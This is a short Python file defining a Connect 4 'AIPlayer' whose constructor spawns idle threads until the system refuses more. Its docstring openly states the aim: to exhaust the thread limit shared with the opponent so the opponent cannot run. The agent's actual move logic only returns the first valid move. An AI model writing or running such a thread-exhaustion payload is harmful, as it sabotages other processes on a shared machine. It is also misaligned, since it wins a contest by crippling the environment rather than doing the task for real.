"""Holds as many threads as it can get: where all agents are one user, the opponent needs some too."""

import threading

from connect4.utils import get_valid_actions


class AIPlayer:
    def __init__(self, player_number, time):
        self.player_number = player_number
        try:
            while True:
                threading.Thread(target=threading.Event().wait, daemon=True).start()
        except RuntimeError:
            pass

    def get_intelligent_move(self, state):
        return get_valid_actions(self.player_number, state)[0]
